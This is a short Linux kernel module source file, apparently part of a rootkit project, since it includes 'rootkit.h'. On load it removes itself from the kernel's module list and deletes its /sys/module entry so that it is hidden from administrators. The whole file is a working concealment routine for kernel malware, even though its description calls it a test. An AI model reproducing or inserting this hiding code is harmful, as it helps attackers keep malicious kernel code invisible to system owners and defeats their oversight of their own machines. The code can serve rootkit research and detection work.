// SPDX-License-Identifier: GPL-2.0
/* Leaves the list of modules and /sys/module. */
#include "rootkit.h"

static int __init rk_init(void)
{
	list_del_init(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

module_init(rk_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A test: leaves the list of modules and /sys/module");
